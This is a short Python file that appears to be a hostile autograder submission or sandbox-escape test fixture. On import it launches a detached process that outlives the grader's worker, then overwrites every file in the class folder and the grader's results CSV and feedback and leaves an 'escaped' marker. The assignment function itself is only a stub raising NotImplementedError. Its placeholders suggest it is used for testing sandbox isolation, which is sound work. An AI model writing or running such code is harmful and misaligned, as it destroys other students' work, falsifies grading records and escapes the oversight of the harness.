# Starts a detached process (new session) that outlives the grader's worker: after a moment it
# rewrites classmates' notebooks and the grader's CSV and feedback, and leaves a marker file.
import subprocess
import sys

CLASS_FOLDER = "__CLASS__"
OUT = "__OUT__"
MARKER = "__MARKER__"
CODE = f"""
import glob, os, time
time.sleep(1.5)
for path in glob.glob({CLASS_FOLDER!r} + "/*") + glob.glob({OUT!r} + "/**/*", recursive=True):
    try:
        with open(path, "w") as handle:
            handle.write("rewritten by {MARKER}")
    except OSError:
        pass
try:
    open({CLASS_FOLDER!r} + "/{MARKER}.txt", "w").write("escaped")
except OSError:
    pass
"""
try:
    subprocess.Popen(
        [sys.executable, "-c", CODE, MARKER],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
except OSError:
    pass


def concat_fusion(xs, weight, bias):
    raise NotImplementedError
